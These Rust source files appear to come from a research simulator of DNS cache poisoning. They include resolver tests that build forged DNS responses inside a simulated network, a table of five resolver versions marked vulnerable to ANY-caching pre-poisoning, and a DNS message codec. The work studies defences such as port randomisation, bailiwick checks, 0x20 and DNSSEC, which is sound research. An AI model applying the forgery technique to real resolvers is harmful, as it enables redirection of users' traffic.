        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert!(r.stats.timeouts >= 1);
        assert_eq!(r.stats.servfails, 1);
        assert_eq!(r.outstanding_count(), 0);
        assert!(r.cache().cached_a(&n("www.vict.im"), s.sim.now()).is_none());
    }

    #[test]
    fn unknown_zone_servfails_immediately() {
        let mut s = setup(resolver_config(), victim_zone());
        s.sim.inject(s.client, client_query("unknown.example", RecordType::A, 5));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.servfails, 1);
        assert_eq!(r.stats.upstream_queries, 0);
    }

    /// An off-path attacker blindly spraying spoofed responses with random
    /// TXIDs at a *random* port has essentially no chance; with the port
    /// known (fixed-port policy) and the full TXID space covered, the forgery
    /// is accepted. This is the 16-bit-vs-32-bit entropy argument of §2.1.
    #[test]
    fn spoofed_response_needs_port_and_txid() {
        // Fixed port, and we spray all TXIDs in a small window around the
        // real one by sending the full 2^16 space in chunks — here we cheat
        // and read the entropy structurally: with the right port and TXID the
        // forgery is accepted.
        let cfg = ResolverConfig { port_policy: PortPolicy::Fixed(33333), ..resolver_config() };
        let mut sim = Simulator::new(5);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(cfg));
        // Nameserver that never answers (so the race is trivially won).
        let ns = sim.add_node("ns", vec![NS_ADDR], SinkNode::default());
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        let attacker = sim.add_node("attacker", vec![ATTACKER_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default());
        sim.connect(resolver, client, Link::default());
        sim.connect(attacker, resolver, Link::with_latency(Duration::from_millis(1)));
        sim.inject(client, client_query("www.vict.im", RecordType::A, 9));
        sim.run_until(SimTime::ZERO + Duration::from_millis(50));

        // Read the TXID the resolver chose (off-path attackers cannot do
        // this; the SadDNS/FragDNS machinery in the `attacks` crate earns it).
        let txid = {
            let r = sim.node_ref::<Resolver>(resolver).unwrap();
            r.outstanding.values().next().unwrap().txid
        };
        // Wrong TXID: rejected.
        let mut forged = Message::query(txid.wrapping_add(1), n("www.vict.im"), RecordType::A);
        forged.header.is_response = true;
        forged.answers.push(ResourceRecord::new(n("www.vict.im"), 300, RData::A(ATTACKER_ADDR)));
        let pkt = UdpDatagram::new(NS_ADDR, RESOLVER_ADDR, 53, 33333, forged.encode()).into_packet(2, 64);
        sim.inject(attacker, pkt);
        sim.run_until(sim.now() + Duration::from_millis(10));
        assert_eq!(sim.node_ref::<Resolver>(resolver).unwrap().stats.rejected_txid, 1);
        assert!(!sim.node_ref::<Resolver>(resolver).unwrap().is_poisoned_with(
            &n("www.vict.im"),
            ATTACKER_ADDR,
            sim.now()
        ));

        // Correct TXID and port: accepted, cache poisoned.
        let mut forged = Message::query(txid, n("www.vict.im"), RecordType::A);
        forged.header.is_response = true;
        forged.answers.push(ResourceRecord::new(n("www.vict.im"), 300, RData::A(ATTACKER_ADDR)));
        let pkt = UdpDatagram::new(NS_ADDR, RESOLVER_ADDR, 53, 33333, forged.encode()).into_packet(3, 64);
        sim.inject(attacker, pkt);
        sim.run_until(sim.now() + Duration::from_millis(10));
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        assert!(r.is_poisoned_with(&n("www.vict.im"), ATTACKER_ADDR, sim.now()));
    }

    #[test]
    fn bailiwick_filtering_drops_out_of_zone_records() {
        let cfg = ResolverConfig { port_policy: PortPolicy::Fixed(44444), ..resolver_config() };
        let mut sim = Simulator::new(6);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(cfg));
        let ns = sim.add_node("ns", vec![NS_ADDR], SinkNode::default());
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default());
        sim.connect(resolver, client, Link::default());
        sim.inject(client, client_query("www.vict.im", RecordType::A, 9));
        sim.run_until(SimTime::ZERO + Duration::from_millis(50));
        let txid = sim.node_ref::<Resolver>(resolver).unwrap().outstanding.values().next().unwrap().txid;
        // A "legitimate-looking" response that also tries to poison an
        // unrelated domain (bank.example) — classic out-of-bailiwick injection.
        let mut forged = Message::query(txid, n("www.vict.im"), RecordType::A);
        forged.header.is_response = true;
        forged.answers.push(ResourceRecord::new(n("www.vict.im"), 300, RData::A("30.0.0.80".parse().unwrap())));
        forged.additionals.push(ResourceRecord::new(n("bank.example"), 300, RData::A(ATTACKER_ADDR)));
        let pkt = UdpDatagram::new(NS_ADDR, RESOLVER_ADDR, 53, 44444, forged.encode()).into_packet(3, 64);
        sim.inject(ns, pkt);
        sim.run();
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        assert_eq!(r.stats.rejected_bailiwick_records, 1);
        assert!(r.cache().cached_a(&n("bank.example"), sim.now()).is_none());
        assert!(r.cache().cached_a(&n("www.vict.im"), sim.now()).is_some());
    }

    #[test]
    fn x20_rejects_wrong_case_echo() {
        let cfg = ResolverConfig { port_policy: PortPolicy::Fixed(40000), ..resolver_config() }.with_0x20();
        let mut sim = Simulator::new(7);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(cfg));
        let ns = sim.add_node("ns", vec![NS_ADDR], SinkNode::default());
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default());
        sim.connect(resolver, client, Link::default());
        sim.inject(client, client_query("verylongname.vict.im", RecordType::A, 9));
        sim.run_until(SimTime::ZERO + Duration::from_millis(50));
        let txid = sim.node_ref::<Resolver>(resolver).unwrap().outstanding.values().next().unwrap().txid;
        // Attacker knows the TXID (hypothetically) but echoes an all-lowercase
        // question: 0x20 validation rejects it.
        let mut forged = Message::query(txid, n("verylongname.vict.im"), RecordType::A);
        forged.header.is_response = true;
        forged.answers.push(ResourceRecord::new(n("verylongname.vict.im"), 300, RData::A(ATTACKER_ADDR)));
        let pkt = UdpDatagram::new(NS_ADDR, RESOLVER_ADDR, 53, 40000, forged.encode()).into_packet(3, 64);
        sim.inject(ns, pkt);
        sim.run();
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        assert_eq!(r.stats.rejected_question, 1);
        assert!(!r.is_poisoned_with(&n("verylongname.vict.im"), ATTACKER_ADDR, sim.now()));
    }

    #[test]
    fn dnssec_validation_rejects_unsigned_forgery_for_signed_zone() {
        let anchor = crate::dnssec::KeyManager::new(7).anchor(&n("vict.im"));
        let cfg = ResolverConfig {
            port_policy: PortPolicy::Fixed(41000),
            ..ResolverConfig::new(RESOLVER_ADDR)
                .with_delegation("vict.im", vec![NS_ADDR], true)
                .with_trust_anchor("vict.im", anchor)
        }
        .with_dnssec_validation();
        let mut sim = Simulator::new(8);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(cfg));
        let ns = sim.add_node("ns", vec![NS_ADDR], SinkNode::default());
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default());
        sim.connect(resolver, client, Link::default());
        sim.inject(client, client_query("www.vict.im", RecordType::A, 9));
        sim.run_until(SimTime::ZERO + Duration::from_millis(50));
        let txid = sim.node_ref::<Resolver>(resolver).unwrap().outstanding.values().next().unwrap().txid;
        let mut forged = Message::query(txid, n("www.vict.im"), RecordType::A);
        forged.header.is_response = true;
        forged.answers.push(ResourceRecord::new(n("www.vict.im"), 300, RData::A(ATTACKER_ADDR)));
        let pkt = UdpDatagram::new(NS_ADDR, RESOLVER_ADDR, 53, 41000, forged.encode()).into_packet(3, 64);
        sim.inject(ns, pkt);
        sim.run();
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        assert_eq!(r.stats.rejected_dnssec, 1);
        assert!(!r.is_poisoned_with(&n("www.vict.im"), ATTACKER_ADDR, sim.now()));
    }

    #[test]
    fn signed_zone_with_validation_accepts_genuine_signed_answer() {
        let zone = victim_zone().sign(
            crate::dnssec::KeyManager::new(7),
            crate::dnssec::SigningPolicy::default(),
            SimTime::ZERO,
        );
        let anchor = zone.trust_anchor().expect("signed zone has an anchor");
        let cfg = ResolverConfig::new(RESOLVER_ADDR)
            .with_delegation("vict.im", vec![NS_ADDR], true)
            .with_trust_anchor("vict.im", anchor)
            .with_dnssec_validation();
        let mut s = setup(cfg, zone);
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 1));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.responses_accepted, 1);
        assert_eq!(r.stats.rejected_dnssec, 0);
        assert!(r.cache().cached_a(&n("www.vict.im"), s.sim.now()).is_some());
    }

    #[test]
    fn signed_zone_negative_answer_requires_authenticated_denial() {
        let zone = victim_zone().sign(
            crate::dnssec::KeyManager::new(7),
            crate::dnssec::SigningPolicy::default(),
            SimTime::ZERO,
        );
        let anchor = zone.trust_anchor().unwrap();
        let cfg = ResolverConfig::new(RESOLVER_ADDR)
            .with_delegation("vict.im", vec![NS_ADDR], true)
            .with_trust_anchor("vict.im", anchor)
            .with_dnssec_validation();
        let mut s = setup(cfg, zone);
        // A genuine NXDOMAIN comes back with signed NSEC proofs and passes.
        s.sim.inject(s.client, client_query("nope.vict.im", RecordType::A, 1));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.rejected_dnssec, 0);
        assert_eq!(r.stats.responses_accepted, 1);
    }

    #[test]
    fn any_unsupported_profile_refuses_any_queries() {
        let cfg = ResolverConfig { any_caching: AnyCachingPolicy::Unsupported, ..resolver_config() };
        let mut s = setup(cfg, victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::ANY, 3));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.upstream_queries, 0, "ANY refused locally");
    }

    #[test]
    fn any_cacheanduse_answers_subsequent_a_from_cache() {
        let mut s = setup(resolver_config(), victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::ANY, 3));
        s.sim.run();
        s.sim.inject(s.client, client_query("vict.im", RecordType::A, 4));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.upstream_queries, 1, "A answered from the cached ANY contents");
        assert_eq!(r.stats.cache_answers, 1);
    }

    #[test]
    fn any_notcached_requeries_for_a() {
        let cfg = ResolverConfig { any_caching: AnyCachingPolicy::NotCached, ..resolver_config() };
        let mut s = setup(cfg, victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::ANY, 3));
        s.sim.run();
        s.sim.inject(s.client, client_query("vict.im", RecordType::A, 4));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.upstream_queries, 2, "A re-queried upstream (dnsmasq behaviour)");
    }

    #[test]
    fn forwarder_mode_sends_to_upstream() {
        // Forwarder -> upstream recursive resolver -> authoritative NS.
        let upstream_cfg = resolver_config();
        let fwd_cfg =
            ResolverConfig { upstream: Some(RESOLVER_ADDR), ..ResolverConfig::new("30.0.0.2".parse().unwrap()) };
        let mut sim = Simulator::new(12);
        let upstream = sim.add_node("upstream", vec![RESOLVER_ADDR], Resolver::new(upstream_cfg));
        let fwd_addr: Ipv4Addr = "30.0.0.2".parse().unwrap();
        let fwd = sim.add_node("forwarder", vec![fwd_addr], Resolver::new(fwd_cfg));
        let ns =
            sim.add_node("ns", vec![NS_ADDR], Nameserver::new(NameserverConfig::new(NS_ADDR), vec![victim_zone()]));
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(upstream, ns, Link::default());
        sim.connect(fwd, upstream, Link::default());
        sim.connect(client, fwd, Link::default());
        let q = Message::query(9, n("www.vict.im"), RecordType::A);
        let pkt = UdpDatagram::new(CLIENT_ADDR, fwd_addr, 5353, 53, q.encode()).into_packet(1, 64);
        sim.inject(client, pkt);
        sim.run();
        // Both caches hold the record: poisoning the upstream poisons every
        // forwarder (and client) behind it.
        assert!(sim.node_ref::<Resolver>(upstream).unwrap().cache().cached_a(&n("www.vict.im"), sim.now()).is_some());
        assert!(sim.node_ref::<Resolver>(fwd).unwrap().cache().cached_a(&n("www.vict.im"), sim.now()).is_some());
        assert!(sim.stats(client).udp_received >= 1);
    }

    #[test]
    fn retries_use_fresh_challenge_values_then_succeed() {
        // The nameserver is behind a lossy link: the first attempt may be
        // lost, the resolver retries with a new port/TXID and eventually wins.
        let mut sim = Simulator::new(33);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(resolver_config()));
        let ns =
            sim.add_node("ns", vec![NS_ADDR], Nameserver::new(NameserverConfig::new(NS_ADDR), vec![victim_zone()]));
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default().loss(0.6));
        sim.connect(resolver, client, Link::default());
        sim.inject(client, client_query("www.vict.im", RecordType::A, 7));
        sim.run();
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        // Either it eventually succeeded or exhausted retries; with seed 33
        // at 60% loss and 3 attempts, we expect progress beyond one attempt.
        assert!(r.stats.upstream_queries >= 1);
        assert_eq!(r.outstanding_count(), 0, "no query left dangling");
    }

    /// A nameserver that pads answers past a small EDNS buffer: the UDP
    /// answer truncates, forcing the transport policy to show its hand.
    fn truncating_ns_config() -> NameserverConfig {
        let mut ns_cfg = NameserverConfig::new(NS_ADDR);
        ns_cfg.pad_responses_to = Some(1400);
        ns_cfg
    }

    #[test]
    fn udponly_truncated_answer_surfaces_as_servfail_with_tc() {
        let cfg = ResolverConfig { edns_size: 512, ..resolver_config() };
        let mut s = setup_with_ns(cfg, truncating_ns_config(), victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::A, 42));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.truncated_responses, 1);
        assert_eq!(r.stats.tcp_fallbacks, 0);
        assert_eq!(r.stats.servfails, 1, "the TC=1 answer fails the lookup visibly, it does not vanish");
        assert_eq!(r.outstanding_count(), 0);
        assert!(r.cache().cached_a(&n("vict.im"), s.sim.now()).is_none(), "truncated answers are never cached");
        assert!(s.sim.stats(s.client).udp_received >= 1, "the client got the SERVFAIL answer");
    }

    #[test]
    fn tc_fallback_requeries_over_tcp_and_answers_the_client() {
        let cfg =
            ResolverConfig { edns_size: 512, ..resolver_config() }.with_transport(UpstreamTransport::UdpTcFallback);
        let mut s = setup_with_ns(cfg, truncating_ns_config(), victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::A, 42));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.truncated_responses, 1);
        assert_eq!(r.stats.tcp_fallbacks, 1, "RFC 7766: TC=1 triggers the TCP re-query");
        assert_eq!(r.stats.tcp_upstream_queries, 1);
        assert_eq!(r.stats.servfails, 0);
        assert_eq!(r.stats.responses_accepted, 1);
        assert_eq!(
            r.cache().cached_a(&n("vict.im"), s.sim.now()),
            Some("30.0.0.80".parse().unwrap()),
            "the TCP answer landed in the cache"
        );
        assert_eq!(r.outstanding_ports().len(), 0, "the UDP side of the query was torn down");
        let ns = s.sim.node_ref::<Nameserver>(s.ns).unwrap();
        assert_eq!(ns.stats.responses_truncated, 1);
        assert_eq!(ns.stats.tcp_queries, 1);
    }

    #[test]
    fn stale_udp_timer_does_not_abort_the_tcp_fallback() {
        // The UDP attempt's timer outlives the TC=1 answer that superseded
        // it: with a timeout shorter than the TCP exchange, the stale timer
        // fires mid-handshake. Its attempt generation no longer matches, so
        // it must be a no-op — no spurious timeout, no burned retry, no RST
        // under the live connection.
        // Timing: UDP query at t=1ms, TC=1 back at t=41ms, TCP answer lands
        // at t=121ms (handshake + query at 20ms/hop). A 100ms timeout puts
        // the stale UDP timer at t=101ms — squarely inside the live TCP
        // attempt — while the TCP attempt's own timer (t=141ms) stays clear.
        let cfg = ResolverConfig { edns_size: 512, query_timeout: Duration::from_millis(100), ..resolver_config() }
            .with_transport(UpstreamTransport::UdpTcFallback);
        let mut s = setup_with_ns(cfg, truncating_ns_config(), victim_zone());
        s.sim.inject(s.client, client_query("vict.im", RecordType::A, 42));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.tcp_fallbacks, 1);
        assert_eq!(r.stats.timeouts, 0, "the stale UDP timer must not count as a timeout");
        assert_eq!(r.stats.tcp_upstream_queries, 1, "exactly one TCP attempt, not an aborted one plus a retry");
        assert_eq!(r.stats.responses_accepted, 1);
        assert_eq!(r.cache().cached_a(&n("vict.im"), s.sim.now()), Some("30.0.0.80".parse().unwrap()));
    }

    #[test]
    fn tcponly_resolves_without_ever_opening_a_udp_ephemeral_port() {
        let cfg = resolver_config().with_transport(UpstreamTransport::TcpOnly);
        let mut s = setup(cfg, victim_zone());
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 7));
        s.sim.run_until(SimTime::ZERO + Duration::from_millis(25));
        // Mid-flight: the query is outstanding but exposes no UDP port.
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.outstanding_count(), 1);
        assert!(r.outstanding_ports().is_empty(), "nothing for a SadDNS port scan to find");
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.responses_accepted, 1);
        assert_eq!(r.stats.tcp_upstream_queries, 1);
        assert_eq!(r.cache().cached_a(&n("www.vict.im"), s.sim.now()), Some("30.0.0.80".parse().unwrap()));
        assert!(s.sim.stats(s.client).udp_received >= 1, "client answered over UDP as usual");
        assert!(s.sim.stats(s.resolver).tcp_sent >= 3, "handshake + query + teardown on the wire");
    }

    #[test]
    fn tcponly_closes_the_connection_after_the_last_answer() {
        let cfg = resolver_config().with_transport(UpstreamTransport::TcpOnly);
        let mut s = setup(cfg, victim_zone());
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 7));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert!(
            r.tcp_flows().is_empty() || r.tcp_flows().iter().all(|f| f.state != "established"),
            "connection released once no query needs it: {:?}",
            r.tcp_flows()
        );
    }

    #[test]
    fn tcponly_retries_after_timeout_and_recovers() {
        // First upstream attempt dies on a fully lossy link window? Instead:
        // an unreachable nameserver for the first delegation target would
        // never recover, so use a lossy link and assert the retry machinery
        // drives the query to completion within the retry budget.
        let cfg = resolver_config().with_transport(UpstreamTransport::TcpOnly);
        let mut sim = Simulator::new(40);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(cfg));
        let ns =
            sim.add_node("ns", vec![NS_ADDR], Nameserver::new(NameserverConfig::new(NS_ADDR), vec![victim_zone()]));
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::default().loss(0.5));
        sim.connect(resolver, client, Link::default());
        sim.inject(client, client_query("www.vict.im", RecordType::A, 7));
        sim.run();
        let r = sim.node_ref::<Resolver>(resolver).unwrap();
        assert_eq!(r.outstanding_count(), 0, "no query left dangling");
        assert!(r.stats.tcp_upstream_queries >= 1);
    }
}
