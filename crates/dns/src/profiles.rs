//! Behaviour profiles of popular DNS implementations.
//!
//! Table 5 of the paper tests five recursive resolver implementations for
//! whether the contents of an `ANY` response are cached and later used to
//! answer specific (`A`) queries — the property that makes the
//! response-inflation trick useful beyond open resolvers. This module encodes
//! those observed behaviours plus a few configuration traits used elsewhere
//! in the measurement campaigns (default EDNS buffer size, 0x20 usage).

use crate::cache::AnyCachingPolicy;
use serde::{Deserialize, Serialize};

/// The resolver implementations evaluated in Table 5.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ResolverImplementation {
    /// ISC BIND 9.14.0.
    Bind9_14,
    /// NLnet Labs Unbound 1.9.1.
    Unbound1_9,
    /// PowerDNS Recursor 4.3.0.
    PowerDnsRecursor4_3,
    /// systemd-resolved 245.
    SystemdResolved245,
    /// dnsmasq 2.79.
    Dnsmasq2_79,
}

impl ResolverImplementation {
    /// All profiles, in the order Table 5 lists them.
    pub fn all() -> [ResolverImplementation; 5] {
        [
            ResolverImplementation::Bind9_14,
            ResolverImplementation::Unbound1_9,
            ResolverImplementation::PowerDnsRecursor4_3,
            ResolverImplementation::SystemdResolved245,
            ResolverImplementation::Dnsmasq2_79,
        ]
    }

    /// The implementation's human-readable name as it appears in the paper.
    pub fn display_name(&self) -> &'static str {
        match self {
            ResolverImplementation::Bind9_14 => "BIND 9.14.0",
            ResolverImplementation::Unbound1_9 => "Unbound 1.9.1",
            ResolverImplementation::PowerDnsRecursor4_3 => "PowerDNS Recursor 4.3.0",
            ResolverImplementation::SystemdResolved245 => "systemd resolved 245",
            ResolverImplementation::Dnsmasq2_79 => "dnsmasq-2.79",
        }
    }

    /// How the implementation caches `ANY` responses (Table 5, column
    /// "Vulnerable"/"Note").
    pub fn any_caching(&self) -> AnyCachingPolicy {
        match self {
            ResolverImplementation::Bind9_14 => AnyCachingPolicy::CacheAndUse,
            ResolverImplementation::Unbound1_9 => AnyCachingPolicy::Unsupported,
            ResolverImplementation::PowerDnsRecursor4_3 => AnyCachingPolicy::CacheAndUse,
            ResolverImplementation::SystemdResolved245 => AnyCachingPolicy::CacheAndUse,
            ResolverImplementation::Dnsmasq2_79 => AnyCachingPolicy::NotCached,
        }
    }

    /// Whether the implementation is vulnerable in the Table 5 sense
    /// (an attacker-triggered `ANY` query can pre-poison specific lookups).
    pub fn vulnerable_to_any_caching(&self) -> bool {
        self.any_caching() == AnyCachingPolicy::CacheAndUse
    }

    /// The note column of Table 5.
    pub fn note(&self) -> &'static str {
        match self.any_caching() {
            AnyCachingPolicy::CacheAndUse => "cached",
            AnyCachingPolicy::NotCached => "not cached",
            AnyCachingPolicy::Unsupported => "doesn't support ANY at all",
        }
    }

    /// Default EDNS buffer size advertised in queries (approximate shipping
    /// defaults of the era; used to seed the Figure 4 distribution).
    pub fn default_edns_size(&self) -> u16 {
        match self {
            ResolverImplementation::Bind9_14 => 4096,
            ResolverImplementation::Unbound1_9 => 4096,
            ResolverImplementation::PowerDnsRecursor4_3 => 1680,
            ResolverImplementation::SystemdResolved245 => 512,
            ResolverImplementation::Dnsmasq2_79 => 4096,
        }
    }

    /// Whether the implementation applies 0x20 case randomisation by default.
    pub fn uses_0x20_by_default(&self) -> bool {
        // None of the five shipped with 0x20 on by default at the studied
        // versions; it is an opt-in countermeasure evaluated in Section 6.
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table5_vulnerability_split() {
        let vulnerable: Vec<_> =
            ResolverImplementation::all().iter().filter(|i| i.vulnerable_to_any_caching()).copied().collect();
        // Table 5: 3 of 5 implementations use cached ANY contents.
        assert_eq!(vulnerable.len(), 3);
        assert!(vulnerable.contains(&ResolverImplementation::Bind9_14));
        assert!(vulnerable.contains(&ResolverImplementation::PowerDnsRecursor4_3));
        assert!(vulnerable.contains(&ResolverImplementation::SystemdResolved245));
    }

    #[test]
    fn unbound_rejects_any() {
        assert_eq!(ResolverImplementation::Unbound1_9.any_caching(), AnyCachingPolicy::Unsupported);
        assert_eq!(ResolverImplementation::Unbound1_9.note(), "doesn't support ANY at all");
    }

    #[test]
    fn dnsmasq_does_not_cache_any() {
        assert_eq!(ResolverImplementation::Dnsmasq2_79.any_caching(), AnyCachingPolicy::NotCached);
        assert!(!ResolverImplementation::Dnsmasq2_79.vulnerable_to_any_caching());
    }

    #[test]
    fn display_names_match_paper() {
        assert_eq!(ResolverImplementation::Bind9_14.display_name(), "BIND 9.14.0");
        assert_eq!(ResolverImplementation::SystemdResolved245.display_name(), "systemd resolved 245");
    }

    #[test]
    fn edns_defaults_reasonable() {
        for imp in ResolverImplementation::all() {
            let size = imp.default_edns_size();
            assert!((512..=4096).contains(&size));
        }
    }
}
