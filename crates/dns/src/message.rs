//! DNS message header, questions and the full message codec.
//!
//! The 16-bit transaction identifier (TXID) in the header is — together with
//! the UDP source port — the challenge-response defence of RFC 5452 that all
//! three poisoning methodologies must defeat: HijackDNS reads it off the
//! intercepted query, SadDNS brute-forces it after recovering the port, and
//! FragDNS avoids it entirely because it sits in the first fragment.

use crate::name::{DomainName, NameError};
use crate::rdata::{RData, RecordType, ResourceRecord};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;

/// DNS response codes (subset).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Rcode {
    /// No error.
    NoError,
    /// Format error.
    FormErr,
    /// Server failure (what a resolver returns when all retries time out —
    /// the symptom applications see during a DoS via cache poisoning).
    ServFail,
    /// Name does not exist.
    NxDomain,
    /// Not implemented.
    NotImp,
    /// Query refused (e.g. by a rate-limiting nameserver).
    Refused,
}

impl Rcode {
    fn to_u4(self) -> u8 {
        match self {
            Rcode::NoError => 0,
            Rcode::FormErr => 1,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
            Rcode::NotImp => 4,
            Rcode::Refused => 5,
        }
    }

    fn from_u4(v: u8) -> Rcode {
        match v {
            1 => Rcode::FormErr,
            2 => Rcode::ServFail,
            3 => Rcode::NxDomain,
            4 => Rcode::NotImp,
            5 => Rcode::Refused,
            _ => Rcode::NoError,
        }
    }
}

/// The DNS message header.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Header {
    /// Transaction identifier — 16 bits of the 32-bit challenge space.
    pub id: u16,
    /// True for responses, false for queries.
    pub is_response: bool,
    /// Authoritative answer flag.
    pub authoritative: bool,
    /// Truncation flag (response did not fit the advertised UDP size).
    pub truncated: bool,
    /// Recursion desired.
    pub recursion_desired: bool,
    /// Recursion available.
    pub recursion_available: bool,
    /// Authenticated data (DNSSEC-validated by the resolver).
    pub authenticated_data: bool,
    /// Response code.
    pub rcode: Rcode,
}

impl Header {
    /// A query header with the given transaction ID.
    pub fn query(id: u16) -> Self {
        Header {
            id,
            is_response: false,
            authoritative: false,
            truncated: false,
            recursion_desired: true,
            recursion_available: false,
            authenticated_data: false,
            rcode: Rcode::NoError,
        }
    }
}

/// Prefixes a DNS message's wire bytes with the two-byte big-endian length
/// used on stream transports (RFC 1035 §4.2.2, reaffirmed by RFC 7766).
///
/// # Panics
/// When the message exceeds 65535 bytes — the framing cannot represent it,
/// and truncating the prefix would permanently desynchronise the stream.
pub fn frame_tcp(message_bytes: &[u8]) -> Vec<u8> {
    assert!(message_bytes.len() <= usize::from(u16::MAX), "DNS message too large for RFC 1035 TCP framing");
    let mut out = Vec::with_capacity(2 + message_bytes.len());
    out.extend_from_slice(&(message_bytes.len() as u16).to_be_bytes());
    out.extend_from_slice(message_bytes);
    out
}

/// The largest DNS message [`TcpFrameBuffer`] will reassemble. The 2-byte
/// RFC 1035 prefix can claim up to 65535 bytes, but nothing in this
/// workspace produces messages anywhere near that; a hostile peer claiming
/// a huge frame and trickling bytes would otherwise pin up to 64 KiB of
/// resolver memory *per connection*. A claim above this cap poisons the
/// buffer (see [`TcpFrameBuffer::rejected`]) instead of buffering.
pub const MAX_TCP_FRAME_LEN: usize = 16 * 1024;

/// Reassembles DNS messages out of a TCP byte stream.
///
/// TCP delivers a byte stream, not datagrams: a DNS message may arrive
/// split across segments or share a segment with its neighbour (RFC 7766
/// pipelining). Each peer connection owns one buffer; [`push`] appends
/// received stream bytes and [`pop`] yields complete length-prefixed
/// messages as they become available.
///
/// Memory is bounded: a length prefix claiming more than
/// [`MAX_TCP_FRAME_LEN`] marks the buffer [`rejected`], drops everything
/// buffered and ignores all further input — the peer has proven hostile or
/// desynchronised, and there is no way to resynchronise a framed stream.
///
/// [`push`]: TcpFrameBuffer::push
/// [`pop`]: TcpFrameBuffer::pop
/// [`rejected`]: TcpFrameBuffer::rejected
#[derive(Debug, Clone, Default)]
pub struct TcpFrameBuffer {
    buf: Vec<u8>,
    rejected: bool,
}

impl TcpFrameBuffer {
    /// An empty buffer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends stream bytes received from the peer. No-op once the buffer
    /// is [`rejected`](TcpFrameBuffer::rejected).
    pub fn push(&mut self, bytes: &[u8]) {
        if self.rejected {
            return;
        }
        self.buf.extend_from_slice(bytes);
    }

    /// Pops the next complete DNS message (without its length prefix), if
    /// the stream holds one.
    pub fn pop(&mut self) -> Option<Vec<u8>> {
        if self.buf.len() < 2 {
            return None;
        }
        let len = usize::from(u16::from_be_bytes([self.buf[0], self.buf[1]]));
        if len > MAX_TCP_FRAME_LEN {
            // Regression (fuzz: tcp_frame/oversize_claim.bin): a 0xFFFF
            // prefix used to make the buffer hold the whole claimed frame
            // in memory while the peer drip-fed it.
            self.rejected = true;
            self.buf = Vec::new();
            return None;
        }
        if self.buf.len() < 2 + len {
            return None;
        }
        let frame = self.buf[2..2 + len].to_vec();
        self.buf.drain(..2 + len);
        Some(frame)
    }

    /// Whether the stream was rejected for claiming an oversized frame.
    /// A rejected buffer holds no memory and never yields another frame.
    pub fn rejected(&self) -> bool {
        self.rejected
    }

    /// Bytes buffered but not yet popped.
    pub fn pending_len(&self) -> usize {
        self.buf.len()
    }

    /// The shared reassembly step of every DNS-over-TCP consumer: appends
    /// `bytes` to the buffer of `key` (one buffer per peer connection) and
    /// drains every complete frame that becomes available. Rejected
    /// buffers are dropped from the map — the connection is dead to DNS.
    pub fn push_and_drain<K: std::cmp::Eq + std::hash::Hash + Clone>(
        buffers: &mut std::collections::HashMap<K, TcpFrameBuffer>,
        key: K,
        bytes: &[u8],
    ) -> Vec<Vec<u8>> {
        let buf = buffers.entry(key.clone()).or_default();
        buf.push(bytes);
        let mut frames = Vec::new();
        while let Some(frame) = buf.pop() {
